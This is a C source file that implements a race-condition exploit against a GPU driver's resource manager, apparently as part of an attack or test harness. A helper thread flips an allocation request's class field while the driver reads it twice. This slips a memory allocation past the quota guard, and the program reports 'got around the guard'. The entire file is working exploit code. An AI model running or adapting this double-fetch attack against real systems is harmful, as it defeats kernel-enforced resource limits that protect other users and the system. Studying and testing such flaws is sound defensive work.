/* Gets memory around the guard: a call that continues in the program is changed before the driver
 * reads it. */
#include "attack.h"

#include <pthread.h>
#include <stdatomic.h>

#define TRIES 1000000

struct around {
    struct rm_alloc alloc;
    atomic_bool over;
};

static void *flip(void *arg)
{
    struct around *around = arg;
    volatile uint32_t *class_id = &around->alloc.class_id;

    while (!atomic_load_explicit(&around->over, memory_order_relaxed)) {
        *class_id = RM_CLASS_MEMORY_LOCAL_USER;
        for (volatile unsigned i = 0; i < 20; i++)
            continue;
        *class_id = RM_CLASS_ROOT_CLIENT;
        for (volatile unsigned i = 0; i < 20; i++)
            continue;
    }
    return NULL;
}

void attack_around(struct rmclient *client, uint64_t bytes)
{
    struct around around = {.over = false};
    struct rm_memory_params params = {.attr = ATTR_4K, .size = bytes};
    uint64_t before = book(client, 0).gpu_used;
    pthread_t thread;

    CHECK_EQUAL(before, attack_quota()); /* so that what the guard sees it refuses */
    CHECK_EQUAL(pthread_create(&thread, NULL, flip, &around), 0);
    for (unsigned i = 0; book(client, 0).gpu_used == before; i++) {
        CHECK(i < TRIES);
        around.alloc = (struct rm_alloc){.root = client->client,
                                         .parent = client->device,
                                         .class_id = RM_CLASS_ROOT_CLIENT,
                                         .params = (uintptr_t)&params,
                                         .status = 0xbad};
        rmclient_call(client->ctl, RM_ESC_ALLOC, sizeof(around.alloc), &around.alloc);
        if (around.alloc.status == RM_OK && book(client, 0).gpu_used == before)
            rmclient_free(client, around.alloc.handle);
    }
    atomic_store(&around.over, true);
    pthread_join(thread, NULL);
    CHECK_EQUAL(book(client, 0).gpu_used, before + bytes);
    fprintf(stderr, "got around the guard\n");
}
